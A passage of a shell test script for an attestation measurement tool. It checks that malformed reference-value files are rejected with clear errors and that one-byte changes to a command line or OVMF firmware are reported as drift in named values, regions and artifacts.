bad_rv "a product Contrast does not know" '.values[0].product = "Naples"' "values[0].product: 'Naples': expected Milan, Genoa or Turin"
bad_rv "a wrong schema version" '.version = 2' "version: 2 is outside 1..1"
bad_rv "a CCA member in an SNP value" '.values[0].cpus = 1' "values[0]: 'cpus' is not a member of an snp value"
tamper
printf '{"version": 1, "values": [' >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "truncated JSON: exit 1"
expect_err_has "refvalues.json: line 1:" "names the file and line"
if have_jsonschema; then
	tamper
	jq '.files[0].integrity = "sha256-short"' "$A" >"$T/t/artifacts.json"
	if validate artifacts "$T/t/artifacts.json" >/dev/null; then not_ok "the artifacts schema rejects a bad integrity"
	else ok "the artifacts schema rejects a bad integrity"; fi
else
	ok "artifacts schema # SKIP python3-jsonschema is not installed"
fi

# ---- drift: a one-byte change of the command line
rm -rf "$T/new"; cp -a "$R" "$T/new"
sed -i 's/ttyS0/ttyS1/' "$T/new/cmdline" "$T/new/ovmf-cmdline"
for v in qemu clh; do
	"$IGVMGEN" build --kernel "$T/new/bzImage" --cmdline-file "$T/new/cmdline" --vmm $v \
		--platform snp -o "$T/new/pod-$v.igvm"
done
"$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$T/new" 2>/dev/null
"$MEASURE" refvalues --config "$T/release.json" "$T/new" 2>/dev/null
run "$MEASURE" drift "$RV" "$RV"
expect_rc 0 "drift of a file with itself: exit 0"
expect_out "drift: none: 12 values and the artifacts all equal" "says so"
run "$MEASURE" drift "$RV" "$T/new/refvalues.json"
expect_rc 3 "a one-byte command-line change is drift: exit 3"
expect_out_has "drift: igvm-qemu-snp/Milan/1: measurement" "names the changed value"
expect_out_has "first diverging region: cmdline (its contents differ" "and the region: cmdline"
expect_out_has "drift: artifact cmdline: changed" "lists the changed artifacts"
check "the CCA value did not drift" sh -c "! grep -q 'kvmtool-cca' '$T/out'"
check "an OVMF value parts in the page of the SEV hash table" \
	grep -q "metal-qemu-snp/Genoa/4: measurement .*first diverging region: kernel-hashes" "$T/out"
expect_out_has "drift: 11 of 12 values changed, 4 artifacts" "counts them (two command lines, the two IGVMs)"
rm -rf "$T/fw"; cp -a "$R" "$T/fw"
printf '\x5a' | dd of="$T/fw/OVMF.fd" bs=1 seek=100 conv=notrunc status=none
"$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$T/fw" 2>/dev/null
"$MEASURE" refvalues --config "$T/release.json" "$T/fw" 2>/dev/null
run "$MEASURE" drift "$RV" "$T/fw/refvalues.json"
expect_rc 3 "a one-byte change of the SNP firmware is drift: exit 3"
expect_out_has "drift: metal-qemu-snp/Milan/1: measurement" "names the OVMF values"
check "... in region ovmf" grep -q "metal-qemu-snp/Genoa/4: measurement .*first diverging region: ovmf" "$T/out"
expect_out_has "drift: 4 of 12 values changed, 1 artifacts" "and only they changed"
run "$MEASURE" drift --json "$RV" "$T/new/refvalues.json"
check "drift --json: the region of each change" \
	test "$(jq -r '[.changes[] | select(.id == "igvm-qemu-snp/Genoa/4") | .region] | .[0]' "$T/out")" = cmdline
mkdir -p "$T/few" && cp "$A" "$T/few/artifacts.json"
jq '.values |= map(select(.vcpus != 4))' "$RV" >"$T/few/fewer.json"
run "$MEASURE" drift "$RV" "$T/few/fewer.json"
expect_rc 3 "a removed value is drift: exit 3"
expect_out_has "drift: igvm-qemu-snp/Milan/4: removed" "a value that disappears is named"
run "$MEASURE" drift "$T/few/fewer.json" "$RV"
expect_out_has "drift: igvm-qemu-snp/Genoa/4: added" "a value that appears is named"
# issue 13: an artifacts.json that cannot be read is an error, never "equal"
printf '{"version": 1, "files": [' >"$T/few/artifacts.json"
cp "$RV" "$T/few/same.json"
run "$MEASURE" drift "$RV" "$T/few/same.json"
expect_rc 1 "drift with a corrupted artifacts.json on the new side: exit 1"
expect_err_has "$T/few/artifacts.json: line 1:" "names the file"
rm "$T/few/artifacts.json"
run "$MEASURE" drift "$RV" "$T/few/same.json"
expect_rc 1 "drift with the new side's artifacts.json deleted: exit 1"
expect_err_has "$T/few/artifacts.json: cannot open" "names the file"
run "$MEASURE" drift "$T/few/same.json" "$RV"
expect_rc 1 "and with the old side's deleted: exit 1"
mkdir -p "$T/bare" && cp "$RV" "$T/bare/a.json" && cp "$RV" "$T/bare/b.json"
run "$MEASURE" drift "$T/bare/a.json" "$T/bare/b.json"
expect_rc 0 "neither side with an artifacts.json: the values alone are compared"
finish
